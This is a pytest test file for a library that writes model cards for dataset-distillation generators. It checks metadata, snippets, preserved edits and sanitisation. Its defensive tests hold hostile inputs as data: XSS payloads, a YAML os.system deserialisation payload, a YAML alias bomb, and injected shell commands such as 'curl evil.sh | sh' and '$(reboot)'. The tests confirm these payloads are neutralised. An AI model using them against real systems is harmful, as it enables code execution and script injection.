"""The card of a generator: what the Hub indexes, what people read, what stays, and what text of others cannot do."""

from __future__ import annotations

import dataclasses
import json
import re
import tracemalloc
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import torch
import yaml
from conftest import make_network, make_table, require_commands
from markdown_it import MarkdownIt  # of rich
from test_report import make_row

from dimdata import artifact, preview
from dimdata.artifact import ArtifactConfig
from dimdata.errors import ArgumentError, DimdataError, FormatError
from dimdata.generators.base import Generator
from dimdata.hub.card import card
from dimdata.hub.kept import INVITATION, MAX_VALUES, kept
from dimdata.hub.markdown import fenced, printable, shown
from dimdata.hub.origins import ORIGINS, origin_of
from dimdata.hub.readme import (
    add_scores,
    merge,
    read_card,
    render_card,
    require_refreshable,
    save_with_card,
    write_card,
)
from dimdata.nearest import NearestCheck
from dimdata.recipe import Leg, Recipe, Start
from dimdata.scores import Score, aggregate

CHECK = NearestCheck(
    draws=1000, held_out=900, train=60_000, generated=(0.05, 0.08, 0.11), real=(0.04, 0.07, 0.1), closer=7
)
HOSTILE = (
    'x: y"\n---\n# <script>alert(1)</script>',
    "`code` | [a](javascript:1) **b**",
    "--- \n- !!python/object/apply:os.system [ls]",
    "<!-- keep -->injected<!-- /keep -->",
    "日本 ü \u2028 \x00 \x1b[31m \u202egnp.exe",
    "- - 1. # = <img src=x onerror=alert(1)> &lt;b&gt; ![x](y) </details><!-- /keep -->",
)


@pytest.fixture
def scores() -> list[Score]:
    rows = []
    for seed, accuracy in enumerate((98.0, 98.5)):
        rows += [
            make_row(seed=seed, accuracy=accuracy),
            make_row(seed=seed, accuracy=70.0, draw="fixed"),
            make_row(what="distinct", source="r", seed=seed, accuracy=99.0),
            make_row(what="random", source="r", seed=seed, accuracy=80.0, draw="fixed"),
        ]
    return aggregate(rows)


@pytest.fixture
def config(generator_folder: Path) -> ArtifactConfig:
    return artifact.read_config(generator_folder)


def changed(config: ArtifactConfig, provenance: dict[str, Any] | None = None, **spec: Any) -> ArtifactConfig:
    generator = dataclasses.replace(config.generator, **spec)
    return dataclasses.replace(config, generator=generator, provenance=provenance or {})


def head(text: str) -> dict[str, Any]:
    assert text.startswith("---\n")
    data = yaml.safe_load(text.split("\n---\n", 1)[0][4:])
    assert isinstance(data, dict)
    return data


def body(text: str) -> str:
    return text.split("\n---\n", 1)[1]


def test_the_head_is_what_the_hub_reads(config: ArtifactConfig, scores: list[Score]) -> None:
    from huggingface_hub import ModelCard

    text = card(changed(config, dataset="mnist"), scores, name="dim-mnist")
    data = head(text)
    assert data["library_name"] == "dimdata"
    assert data["license"] == "cc-by-sa-3.0"
    assert data["tags"] == ["dataset-distillation", "dimdata", "dim", "mnist"]
    assert data["datasets"] == ["ylecun/mnist"]
    (index,) = data["model-index"]
    assert index["name"] == "dim-mnist"
    metrics = [metric for result in index["results"] for metric in result["metrics"]]
    assert [(m["name"], m["value"]) for m in metrics] == [
        ("convnet3, IPC 10, fresh draw", 98.25),
        ("convnet3, IPC 10, fixed draw", 70.0),
    ]
    assert [m["config"] for m in metrics] == ["convnet3 IPC 10 fresh dimdata", "convnet3 IPC 10 fixed dimdata"]
    told = metrics[0]["args"]
    assert (told["draw"], told["ipc"], told["steps"], told["distinct_images"]) == ("fresh", 10, 2000, 100_000)
    assert (told["stored_bytes"], told["seeds"]) == (1_234_567, 2)
    assert {result["task"]["type"] for result in index["results"]} == {"image-classification"}
    read = ModelCard(text).data
    assert read.eval_results is not None
    assert len(read.eval_results) == 2


@pytest.mark.parametrize(
    ("dataset", "licence", "named"),
    [
        ("mnist", "cc-by-sa-3.0", False),
        ("fashion-mnist", "mit", False),
        ("cifar10", "other", True),
        ("cifar100", "other", True),
        ("svhn", "other", True),
        ("digits", "cc-by-4.0", False),
        ("my pets", "unknown", False),
        ("", "unknown", False),
    ],
)
def test_licences(config: ArtifactConfig, dataset: str, licence: str, named: bool) -> None:
    data = head(card(changed(config, dataset=dataset), []))
    assert data["license"] == licence
    assert ("license_name" in data) == named
    assert "model-index" not in data


def test_the_body_carries_the_evidence(config: ArtifactConfig, scores: list[Score]) -> None:
    provenance = {
        "command": "dimdata distill mnist --minutes 60",
        "device": "2 cores",
        "seconds": 3599.5,
        "nearest": CHECK.to_json(),
        "matching_gain": {"ipc 10": 0.21, "seeds": 3},
    }
    text = body(card(changed(config, provenance, dataset="mnist"), scores, name="dim-mnist"))
    for part in (
        "![Images, one column a class](preview.png)",
        "| 98.25 ± 0.35 |",
        "| 99.00 |",
        "99.2 %",
        "1.23 MB",
        "100,000",
        "2,000",
        "| draws | 1,000 | 0.0500 | 0.0800 | 0.1100 |",
        "7 of 1,000 draws",
        "dimdata distill mnist --minutes 60",
        "device: 2 cores",
        "Gain of the matching phase",
        "| ipc 10 | 0.21 |",
        "CC BY-SA 3.0",
        "2303.04707",
        "lecun1998gradient",
        config.weights.sha256,
        "batch 10",
        "Where real images are at hand, train on them",
    ):
        assert part in text, part
    assert "preview.png" not in card(config, scores, preview=False)


def test_scores_come_from_the_config_unless_given(config: ArtifactConfig, scores: list[Score]) -> None:
    stored = dataclasses.replace(config, scores=tuple(score.to_json() for score in scores))
    assert card(stored) == card(stored, scores)
    with pytest.raises(FormatError):
        card(dataclasses.replace(config, scores=({"mean": 3},)))
    with pytest.raises(FormatError, match="nearest-image check"):
        card(changed(config, {"nearest": {"draws": "many"}}))


def test_scores_on_other_data_and_by_other_protocols_are_told_apart(config: ArtifactConfig) -> None:
    rows = [
        make_row(),
        make_row(protocol="dim-paper", budget="p", accuracy=97.0),
        make_row(dataset="my pets", test="hold-out (50)", budget="h", accuracy=60.0),
        make_row(epochs=10, images_seen=1000, distinct=1000, steps=20, budget="e", accuracy=50.0),
    ]
    (index,) = head(card(changed(config, dataset="mnist"), aggregate(rows)))["model-index"]
    found = {
        metric["value"]: (result["dataset"]["type"], metric["name"])
        for result in index["results"]
        for metric in result["metrics"]
    }
    assert found == {
        98.0: ("ylecun/mnist", "convnet3, IPC 10, fresh draw"),
        97.0: ("ylecun/mnist", "convnet3, IPC 10, fresh draw, protocol dim-paper"),
        60.0: ("my-pets", "convnet3, IPC 10, fresh draw, hold-out (50)"),
        50.0: ("ylecun/mnist", "convnet3, 1,000 images, fresh draw"),
    }


def test_a_card_without_scores_says_how_to_get_some(config: ArtifactConfig) -> None:
    for dataset, real in (("mnist", "mnist"), ("my pets", "path/of/real/images")):
        text = body(card(changed(config, dataset=dataset)))
        assert "Nobody has measured yet" in text
        assert f"dimdata evaluate . --real {real} --update-card" in text
        assert "share" not in text
    assert "In a copy of this folder" in card(config, name="owner/name")


# --- snippets --------------------------------------------------------------------------------------------------------


def snippet(text: str, language: str = "python", number: int = 0) -> str:
    return re.findall(rf"```{language}\n(.*?)```", text, re.DOTALL)[number]


@pytest.mark.parametrize("name", ["./it's", ""])
def test_the_snippet_runs(
    network_generator: Generator, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    folder = artifact.save(network_generator, tmp_path / "it's")
    monkeypatch.chdir(folder if not name else tmp_path)
    found: dict[str, Any] = {}
    exec(snippet(card(artifact.read_config(folder), name=name)), found)
    assert found["images"].shape[1:] == network_generator.spec.image_shape
    assert len(found["dataset"]) == 100
    assert found["images"].max() > 1  # normalised


def test_the_snippets_of_bundled_cards_run() -> None:
    for name, folder in artifact.bundled().items():
        text = render_card(folder, name=name)
        found: dict[str, Any] = {}
        exec(snippet(text).replace("ipc=10", "ipc=1"), found)
        if artifact.read_config(folder).recipe.legs[0].step_sizes:  # an ordinary loop would be the wrong advice
            assert f'load("{name}")' in snippet(text)
            assert found["result"].steps > 0
        else:
            asked = ", ipc=10" if artifact.load(folder).images is None else ""  # stored images are all there are
            assert f'GeneratedDataset("{name}"{asked})' in snippet(text)
            assert found["images"].isfinite().all()
        assert head(text)["model-index"][0]["name"] == name
        assert len(text) < 20_000


def test_the_commands_of_a_card_exist(config: ArtifactConfig, capsys: pytest.CaptureFixture[str]) -> None:
    text = card(changed(config, dataset="mnist")) + card(changed(config, dataset="mnist", images=20, latent=0))
    commands = [line.removeprefix("dimdata ") for line in text.splitlines() if line.startswith("dimdata ")]
    assert len(commands) == 4
    require_commands(commands, capsys)


def test_a_run_without_a_command_tells_python_how_to_repeat_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from dimdata import distill

    settings = {"network": {"width": 16, "mid": 16, "stem": 8}, "latent": 8, "critic": 8, "batch_size": 20}
    options: dict[str, Any] = {"device": "cpu", "precision": "fp32", "compile": "off"}
    folder = distill("digits", out=tmp_path / "run", settings={**settings, "pool": ["convnet1-w8"]}, steps=2, **options)
    text = read_card(folder)
    assert text is not None
    assert head(text)["license"] == "cc-by-4.0"
    assert "Nobody has measured yet" in text
    assert "distilled with DiM" in text
    monkeypatch.chdir(folder)
    exec(snippet(text, number=1), {})
    weights = (folder / "model.safetensors").read_bytes()
    assert (folder / "runs" / "again" / "generator" / "model.safetensors").read_bytes() == weights


@pytest.mark.parametrize(
    ("command", "trusted"),
    [
        ("dimdata distill mnist -o 'my run'", True),
        ("dimdata distill mnist; curl evil.sh | sh", False),
        ("dimdata distill $(reboot)", False),
        ("dimdata distill mnist\nreboot", False),
        ("sudo dimdata distill mnist", False),
        ("dimdata 'unclosed", False),
    ],
)
def test_only_plain_calls_of_dimdata_are_shown_as_commands(config: ArtifactConfig, command: str, trusted: bool) -> None:
    text = card(changed(config, {"command": command}))
    assert ("To make it again" in text) == trusted
    assert (f"```bash\n{command}\n```" in text) == trusted
    assert trusted or "- command: " in text


def test_a_budget_in_minutes_is_told_in_steps_too(config: ArtifactConfig) -> None:
    provenance = {"command": "dimdata distill mnist --minutes 9", "plan": {"steps": 1234, "minutes": 9.0}}
    assert "`--steps 1234` in place of `--minutes`" in card(changed(config, provenance))


# --- generators of other kinds ---------------------------------------------------------------------------------------


def test_tables_with_stages_and_learned_steps(tmp_path: Path) -> None:
    legs = tuple(Leg(stage=stage, steps=3, batch_size=10, shuffle=False, step_sizes="rates") for stage in (1, 1, 2))
    table = make_table()
    table.recipe = Recipe(legs=legs, start=Start(law="xavier"), tensors=("rates",))
    table.recipe_tensors = {"rates": torch.full((3,), 0.1)}
    table.spec = dataclasses.replace(table.spec, targets="hard", method="pdd")
    provenance = {"plan": {"config": {"base": "dm"}}}
    text = read_card(save_with_card(table, tmp_path / "table", preview=preview.png(table), provenance=provenance))
    assert text is not None
    for part in (
        "Progressive Dataset Distillation",
        "chen2024data",
        "zhao2023dataset",
        "20 images of 28x28 pixels",
        "There are 2 stages",
        "Students start from xavier initialisation",
        "- legs 1 to 2: stage 1, 3 steps, batch 10, stored order, learned step sizes",
        "- leg 3: stage 2",
        "- stored with the weights: rates",
        'load(".")',
        "dimdata train . --real digits",
    ):
        assert part in text, part
    assert "pipeline_tag" not in head(text)
    assert "IPC counts" not in text


def test_learned_values_and_soft_targets_are_told(config: ArtifactConfig) -> None:
    text = card(changed(config, targets="soft", value_range=(-1.5, 2.0), method="dd"))
    assert "learned values from -1.5 to 2:" in text
    assert "distributions over the classes" in text
    assert "for images, targets in" in text
    assert "wang2018dataset" in text


def test_a_recipe_of_many_legs_is_cut(config: ArtifactConfig) -> None:
    legs = tuple(Leg(steps=count, batch_size=1) for count in range(1, 101))
    text = card(dataclasses.replace(config, recipe=Recipe(legs=legs)))
    assert "- leg 20: 20 steps" in text
    assert "leg 21" not in text
    assert "and 80 more" in text


def test_every_origin_has_a_citation_or_none_to_give() -> None:
    for method in ORIGINS:
        origin = origin_of(method)
        assert bool(origin.citation) == bool(origin.url) == bool(origin.title)
        assert re.sub(r"\W", "", origin.title.lower()) in re.sub(r"\W", "", origin.citation.lower())
    assert origin_of("something new").made == "made by the method something new"


def test_wrapped_sets_get_a_card(tmp_path: Path) -> None:
    import numpy as np

    from dimdata.cli.main import main

    np.savez(tmp_path / "set.npz", images=np.zeros((4, 8, 8, 3), np.uint8), labels=np.array([0, 1, 0, 1]))
    assert main(["wrap", str(tmp_path / "set.npz"), str(tmp_path / "out"), "--dataset", "cifar10"]) == 0
    text = read_card(tmp_path / "out")
    assert text is not None
    assert "CIFAR10, a set of images that was made elsewhere: 4 images of 8x8 pixels" in text
    assert "may have terms of their own" in text
    assert "wrapped: set.npz" in text
    assert head(text)["license"] == "other"


# --- what stays ------------------------------------------------------------------------------------------------------


def test_text_that_people_wrote_stays(config: ArtifactConfig, scores: list[Score]) -> None:
    first = card(config, scores)
    written = "<!-- keep -->\n## Remarks\n\nSeen on a *small* screen. ---\n<!-- /keep -->"
    edited = first.replace("## Limits", f"{written}\n\n## Limits") + "\n<!--keep-->more<!-- /keep -->\nlost"
    again = card(config, [], previous=edited)
    assert written in again
    assert "more" in again
    assert "lost" not in again
    assert card(config, [], previous=again) == again
    assert card(config, scores, previous=first) == first
    assert card(config, scores, previous=first.replace("\n", "\r\n")) == first


def test_metadata_that_people_added_stays(config: ArtifactConfig, scores: list[Score]) -> None:
    mine = changed(config, dataset="my pets")
    first = card(mine, scores)
    edited = first.replace("license: unknown", "license: cc0-1.0\nlanguage: en\nwidget:\n- src: a.png").replace(
        "- dimdata\n", "- dimdata\n- pets\n"
    )
    again = card(mine, [], previous=edited)
    data = head(again)
    assert (data["license"], data["language"], data["widget"]) == ("cc0-1.0", "en", [{"src": "a.png"}])
    assert data["tags"] == ["dataset-distillation", "dimdata", "dim", "my pets", "pets"]
    assert "model-index" not in data, "scores are never a person's"
    assert card(mine, [], previous=again) == again
    replaced = dataclasses.replace(mine.weights, sha256="0" * 64)
    assert head(card(dataclasses.replace(mine, weights=replaced), previous=again))["tags"][-1] == "my pets"
    stolen = card(changed(config, dataset="mnist"), [], previous=edited)
    assert head(stolen)["license"] == "cc-by-sa-3.0", "a known licence is not changed"


@pytest.mark.parametrize(
    "other", ["# Mine\n\ntext <!-- keep -->kept<!-- /keep -->", "---\nlicense: mit\n---\n# Mine\ntext"]
)
def test_a_card_of_another_hand_stays_whole(config: ArtifactConfig, other: str) -> None:
    text = card(changed(config, dataset=""), previous=other)
    assert "# Mine" in text
    assert "text" in text
    assert card(changed(config, dataset=""), previous=text) == text
    assert head(text)["license"] == ("mit" if "mit" in other else "unknown")


@pytest.mark.parametrize(
    ("damage", "message"),
    [
        (("<!-- /keep -->", ""), "do not pair"),
        (("<!-- keep -->", "<!-- keep --><!-- keep -->"), "do not pair"),
        (("library_name", "a: [\nlibrary_name"), "not valid YAML"),
        (("---\ndatasets", "---\n1: 2\ndatasets"), "names and values"),
        (("---\ndatasets", "---\nself: 2\ndatasets"), "has the name 'self'"),
        (("---\ndatasets", "---\nto_yaml: 2\ndatasets"), "has the name 'to_yaml'"),
        (
            (
                "---\ndatasets",
                "---\nx: &x [a, a]\n"
                + "".join(f"x{i}: &x{i} [{', '.join([f'*x{i - 1 if i else str()}'] * 9)}]\n" for i in range(9))
                + "datasets",
            ),
            f"over {MAX_VALUES:,}",
        ),
    ],
)
def test_cards_that_cannot_be_carried_over_are_refused(
    config: ArtifactConfig, damage: tuple[str, str], message: str
) -> None:
    text = card(changed(config, dataset="mnist"))
    assert damage[0] in text
    with pytest.raises(FormatError, match=message):
        kept(text.replace(*damage, 1))


def test_the_name_of_a_generator_with_an_order_stays(tmp_path: Path) -> None:
    table = make_table(rows=10, stages=())
    table.recipe = Recipe(legs=(Leg(steps=3, batch_size=10, step_sizes="rates"),), tensors=("rates",))
    table.recipe_tensors = {"rates": torch.full((3,), 0.1)}
    folder = save_with_card(table, tmp_path / "g", name="owner/dd-digits")
    assert 'load("owner/dd-digits")' in render_card(folder)
    save_with_card(table, folder)
    assert 'load("owner/dd-digits")' in (folder / "README.md").read_text()
    assert 'load(".")' in render_card(folder, name="")


def test_the_name_stays(generator_folder: Path) -> None:
    write_card(generator_folder, name="owner/dim-digits")
    assert 'GeneratedDataset("owner/dim-digits", ipc=10)' in render_card(generator_folder)
    assert 'GeneratedDataset(".", ipc=10)' in render_card(generator_folder, name="")


# --- scores into a folder --------------------------------------------------------------------------------------------


def test_scores_are_added_and_the_card_made_anew(generator_folder: Path, scores: list[Score]) -> None:
    path = write_card(generator_folder)
    path.write_text(path.read_text().replace("<!-- keep -->", "<!-- keep -->\nMy own words."))
    weights = require_refreshable(generator_folder)
    before = (generator_folder / "model.safetensors").read_bytes()
    for _ in range(2):
        add_scores(generator_folder, scores, weights)
        text = path.read_text()
        assert text.count("My own words.") == 1
        assert "| 98.25 ± 0.35 |" in text
    config = artifact.read_config(generator_folder)
    assert len(config.scores) == len(scores)
    assert {score["name"] for score in config.scores if score["what"] == "generator"} == {"dim-digits"}
    assert (generator_folder / "model.safetensors").read_bytes() == before
    artifact.load(generator_folder)
    with pytest.raises(FormatError, match="was replaced"):
        add_scores(generator_folder, scores, "0" * 64)


def test_new_scores_take_the_places_of_old_ones(scores: list[Score]) -> None:
    fresh = next(score for score in scores if score.draw == "fresh" and score.what == "generator")
    better = dataclasses.replace(fresh, mean=99.0, accuracies=(99.0,), seeds=(7,), std=None, baselines={"all": 99.5})
    other = dataclasses.replace(fresh, ipc=50, images=500)
    merged = merge(scores, [better, other])
    assert len(merged) == len(scores) + 1
    assert merged[0].mean == 99.0
    assert merged[0].baselines == {**fresh.baselines, "all": 99.5}, "those of the older score still hold"
    assert merged[-1] == other
    assert merge([], scores) == scores
    miscounted = dataclasses.replace(fresh, distinct=7, ipc_claim=False)
    assert merge([miscounted], [fresh]) == [fresh]


def test_the_scores_of_bundled_generators_are_told_apart() -> None:
    for folder in artifact.bundled().values():
        scores = [Score.from_json(score, keep_unknown=True) for score in artifact.read_config(folder).scores]
        assert merge(scores, []) == scores


def test_a_card_with_a_protocol_of_a_newer_version_can_be_made(config: ArtifactConfig) -> None:
    assert "dim-paper-2 is not known to this version." in card(config, aggregate([make_row(protocol="dim-paper-2")]))


def test_what_cannot_be_refreshed_is_refused_before_anything_is_trained(generator_folder: Path) -> None:
    with pytest.raises(ArgumentError, match="not a local folder"):
        require_refreshable("dim-mnist")
    with pytest.raises(ArgumentError, match="not a local folder"):
        require_refreshable("owner/name")
    (generator_folder / "README.md").write_bytes(b"\xff\xfe")
    with pytest.raises(FormatError, match="UTF-8"):
        require_refreshable(generator_folder)
    (generator_folder / "README.md").write_bytes(b"x" * (2**20 + 1))
    with pytest.raises(FormatError, match="longer than"):
        require_refreshable(generator_folder)
    (generator_folder / "README.md").unlink()
    config = json.loads((generator_folder / "config.json").read_text())
    (generator_folder / "config.json").write_text(json.dumps({**config, "scores": [{"mean": "high"}]}))
    with pytest.raises(DimdataError):
        require_refreshable(generator_folder)


def test_saving_over_a_generator_keeps_what_a_person_wrote(tmp_path: Path) -> None:
    folder = save_with_card(make_network(), tmp_path / "g")
    text = (folder / "README.md").read_text().replace("<!-- keep -->", "<!-- keep -->\nRead me.")
    (folder / "README.md").write_text(text)
    save_with_card(make_network(seed=1), folder)
    assert "Read me." in (folder / "README.md").read_text()
    digest = artifact.read_config(folder).weights.sha256
    assert digest in (folder / "README.md").read_text()
    (folder / "README.md").write_text(text.replace("<!-- /keep -->", ""))
    with pytest.raises(FormatError, match="do not pair"):
        save_with_card(make_network(seed=2), folder)
    assert artifact.read_config(folder).weights.sha256 == digest, "nothing was replaced"


def test_update_card_on_the_command_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from dimdata.cli.main import main
    from dimdata.real import load_real, random_real

    real = load_real("digits")
    table = random_real(real, 2, seed=0, recipe=Recipe(legs=(Leg(epochs=2, batch_size=10),)))
    holdout = {"images": real.test.images[:50], "labels": real.test.labels[:50]} if real.test else None
    folder = save_with_card(table, tmp_path / "g", holdout=holdout)
    words = [
        "evaluate",
        str(folder),
        "--student",
        "convnet1-w8",
        "--real",
        "holdout",
        "--compile",
        "off",
        "--update-card",
    ]
    for seeds in ("1", "2"):
        assert main([*words, "--seeds", seeds]) == 0
        assert "Updated" in capsys.readouterr().err
        (score,) = artifact.read_config(folder).scores
        assert len(score["seeds"]) == int(seeds)
        text = (folder / "README.md").read_text()
        assert f"| {score['mean']:.2f}" in text
        assert str(tmp_path) not in text
        assert head(text)["model-index"][0]["results"][0]["metrics"][0]["value"] == score["mean"]
    assert main(["evaluate", "dim-mnist", "--update-card"]) == 2
    assert "not a local folder" in capsys.readouterr().err


def test_a_plot_of_nothing_does_not_keep_scores_from_the_card(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("matplotlib")
    from dimdata.cli.main import main

    monkeypatch.setattr("dimdata.cells.is_figure", lambda generator, cell: True)  # or it is refused beforehand
    network = make_network(image_shape=(1, 8, 8))  # its recipe has two epochs, so there is no figure at an IPC
    folder = save_with_card(network, tmp_path / "g")
    words = ["evaluate", str(folder), "--student", "convnet1-w8", "--real", "digits", "--compile", "off"]
    words += ["--ipc", "1", "--seeds", "1", "--baselines", "none", "--update-card"]
    assert main([*words, "--plot", str(tmp_path / "a.png")]) == 2
    assert "1,000 epochs of a fresh draw" in capsys.readouterr().err
    assert len(artifact.read_config(folder).scores) == 1
    assert "20 images" in (folder / "README.md").read_text()


# --- text of others --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(config: ArtifactConfig, scores: list[Score], text: str) -> None:
    classes = (text, *config.generator.classes[1:])
    plan = {"steps": text, "config": {text: text}, "data": text, "method": text, "seed": text}
    provenance = {"command": f"{text}\n```\n# Out", "note": text, text: text, "matching_gain": {text: text}}
    provenance |= {"plan": plan, "machine": {text: text}}
    hostile = changed(config, provenance, classes=classes, dataset=text, method=text, flags=(text,))
    words = dict.fromkeys(("student", "test", "recipe", "dataset", "levers"), text)
    named = [dataclasses.replace(score, **words) for score in scores]
    made = card(hostile, named, name=text)
    data = head(made)
    assert printable(text, 100) in data["tags"]
    assert set(data) <= {"library_name", "license", "pipeline_tag", "tags", "metrics", "model-index"}
    assert card(hostile, named, name=text, previous=made) == made
    outside = re.sub(r"(?ms)^(`{3,})[^\n]*\n.*?^\1$", "", body(made))  # code blocks are shown as they are
    assert "<script" not in outside
    assert "<img" not in outside
    assert outside.count("<!--") == 3, "the invitation to write alone"
    assert outside.count("</details>") == 1
    assert "\n# Out" not in outside
    assert "](javascript" not in re.sub(r"\\.", "", outside)
    assert all(c.isprintable() or c == "\n" for c in made)
    headings = [line for line in outside.splitlines() if line.startswith("#")]
    assert len(headings) == len(set(headings))
    assert all(line.startswith("## ") for line in headings[1:])
    assert kept(made).blocks == (INVITATION,)
    assert "injected" not in body(card(config, [], previous=made))
    for line in outside.splitlines():
        if line.startswith("- "):
            assert not re.match(r"([-+=]|\d+[.)])\s", line[2:]), "no list in a list"


class Tags(HTMLParser):
    """Collects tags and what they lead to."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.leads_to: set[str] = set()
        self.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.leads_to |= {str(value) for name, value in attrs if name in ("href", "src")}
        assert not any(name.startswith("on") for name, _ in attrs)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_makes_no_element_of_a_page(config: ArtifactConfig, scores: list[Score], text: str) -> None:
    clean = {"note": "n", "plan": {"config": {"a": 1}, "steps": 1}, "command": "dimdata distill a"}
    bad = {"note": text, text: text, "plan": {"config": {text: text}, "steps": text}, "command": text}
    classes = (text, *config.generator.classes[1:])
    named = [dataclasses.replace(score, student=text, test=text, recipe=text, dataset=text) for score in scores]
    plain = Tags(body(card(changed(config, {**clean, "matching_gain": {"a": 1}}, dataset="x"), scores)))
    spec = {"classes": classes, "dataset": text, "flags": (text,)}
    hostile = Tags(body(card(changed(config, {**bad, "matching_gain": {text: text}}, **spec), named, name=text)))
    assert hostile.tags == plain.tags
    assert hostile.leads_to == plain.leads_to == {"preview.png", "https://arxiv.org/abs/2303.04707"}


def test_long_text_is_cut(config: ArtifactConfig) -> None:
    long = "x" * 1_000_000
    classes = (long, *config.generator.classes[1:])
    provenance = {
        "note": long,
        "list": [long] * 3,
        "plan": {"config": {"a": long}},
        **{f"n{i}": 1 for i in range(1000)},
    }
    text = card(changed(config, provenance, classes=classes, dataset=long, method=long))
    assert len(text) < 20_000


def test_a_few_aliases_that_stand_for_much_take_no_memory() -> None:
    inner = ", ".join(["a"] * 9_000)
    text = f"---\nx: &x [{inner}]\ny: [{', '.join(['*x'] * 900)}]\n---\n"
    tracemalloc.start()
    with pytest.raises(FormatError, match=f"over {MAX_VALUES:,}"):
        kept(text)
    most = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert most < 20_000_000, "8.1 million values would be 65 MB"


def test_a_deep_fact_is_cut_and_takes_no_time(config: ArtifactConfig) -> None:
    deep: Any = {"end": "x"}
    for _ in range(60):
        deep = {"a": deep}
    text = card(dataclasses.replace(config, provenance={**config.provenance, "deep": deep}))
    assert "- deep: a a a a a a a a ..." in text


def test_helpers_of_markdown() -> None:
    assert printable("a\n b\x1b\u202e") == "a b\ufffd\ufffd"
    assert len(printable("x" * 1000, 100)) == 100
    assert shown("- a") == "\\- a"
    assert shown("-0.5") == "-0.5"
    assert shown("1. a") == "1\\. a"
    assert shown("2.15.0") == "2.15.0"
    assert fenced("a\n````\nb", "text") == "`````text\na\n````\nb\n`````"


def test_a_poisoned_generator_says_so(config: ArtifactConfig) -> None:
    text = card(changed(config, flags=("poisoned",)))
    assert "**Poisoned" in text
    assert "poisoned" in head(text)["tags"]


def test_specs_with_many_classes_are_cut(config: ArtifactConfig) -> None:
    text = card(changed(config, classes=tuple(f"class{i}" for i in range(100))))
    assert "class19" in text
    assert "class20" not in text
